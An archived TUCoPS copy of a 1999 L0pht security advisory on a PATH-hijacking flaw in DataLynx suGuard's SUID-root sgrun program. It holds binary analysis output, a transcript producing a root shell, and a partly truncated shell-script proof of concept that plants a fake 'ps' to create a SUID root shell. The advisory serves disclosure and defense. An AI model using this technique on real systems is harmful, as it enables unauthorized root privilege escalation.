Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Unix :: General :: suguar-1.htm

SuGuard rev 1.0 from DataLynx - execute arbitrary as root



    Systems with suGuard rev 1.0 from DataLynx


    Following is  based on  L0pht Advisory  and was  discovered by Dr.
    Mudge.  During a cursory examination of DataLynx's suGuard program
    to  exploit  /tmp  vulnerabilities,  much  more  blatent  security
    problems were uncovered.  In particular, a process listing is  run
    from suGuard's main application.   The first instance of the  'ps'
    program found in the users  PATH environment is assumed to  be the
    valid ps  program and  is run  with root  privileges.   sgrun, the
    datalynx  program,  is  SUID  root  and  as  such enables any user
    configured for suGuard to execute arbitrary commands as root.

        [furby-death] ./ /bin/datalynx/sgrun Identify
        datalynx sgrun proof of concept exploit from L0pht []

        Segmentation Fault
        root shell created as ./sushi

        [furby-death] ls -l sushi
        -r-sr-xr-x   1 root     other     186356 Oct  1 14:25 sushi
        [furby-death] ./sushisuGuard is a commercial product put out by a company name DataLynx
    It  is  basically  sudo  with  a  GUI  interface  and  some  other
    functionality.  Since  it  is   designed  to  manage   priviledged
    execution of programs is installed SUID root.  A quick  strings(1)
    shows several likely problems in the code:

        71800 /tmp
        74192 /tmp/dxpids.%d
        74208 ps -ef > %s
        78600 /tmp/gdtemp1
        78616 ps -ef > %s

    The /tmp  lines show  improper usage  of the  /tmp directory while
    the ps lines indicate what is most likely the args to a s{n}printf
    that will  be handed  off for  execution.   A quick  nm(1) further
    validates our concerns:

        0000204184 U popen
        0000203536 U execvp

    There  are  a  couple  of  quick  attacks to attempt here.  First,playing with the path and second playing with the field  seperator
    IFS (both work here by the way).  truss'ing the program will  show
    the problems in  much more detail  [note: Identify is  the profile
    name Dr. M. gave /bin/id for sgrun - see the suGuard documentation
    for how to set these up]:

        truss -f -o xxx /bin/datalynx/sgrun Identify
        grep ps xxx
        15651:  stat64("/usr/sbin/ps", 0xEFFFF2D8)              Err#2 ENOENT
        15651:  stat64("/usr/bin/ps", 0xEFFFF2D8)               = 0
        15651:  access("/usr/bin/ps", 9)                        = 0
        15653:  execve("/usr/bin/ps", 0x00038B78, 0x00038BAC)  argc = 2The above trace segment shows  the walking of PATH directories  to
    find ps and then execute it  with the arguments we noted from  the
    strings(1) run.  This is what we expect since ps was not given  an
    explicit path  and the  calls for  execution were  either popen or
    execvp, both of which  would follow the PATH  environment variable
    to  find  the  executable.   Though  we  exercise  this particular
    problem,  it  should  be  noted  that  several others exist in the
    program.  Exploit code:

    # sgrun exploit - the types of vulnerabilities that this exploit exercises
    #  have no right being introduced to code in this day and age. Much less
    #  code which presents itself under the pretenses of securing your system.
    #   .mudge 01.02.99

    if [ $# -ne 2 ] ; then
      echo Must specify path to sgrun [/bin/datalynx/sgrun] and sgrun argument
      echo [01.02.99]
      exit 1


    if [ -f ${SUSHI} ] ; then
      echo root shell already created?echo datalynx sgrun proof of concept exploit from L0pht []

    cat > ./ps << FOEFOE
    cp /bin/ksh ${SUSHI}
    chown root ${SUSHI}
    chmod 4555 ${SUSHI}

    chmod 755 ./ps

    export PATH

    #/bin/datalynx/sgrun Identify
    ${SGRUN} ${ARG}if [ -f ${SUSHI} ] ; then
      echo root shell created as ${SUSHI}
      ls -l ${SUSHI}Let's hope DataLynx do programing again.

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design & layoutcopyright © 1986-2015 AOH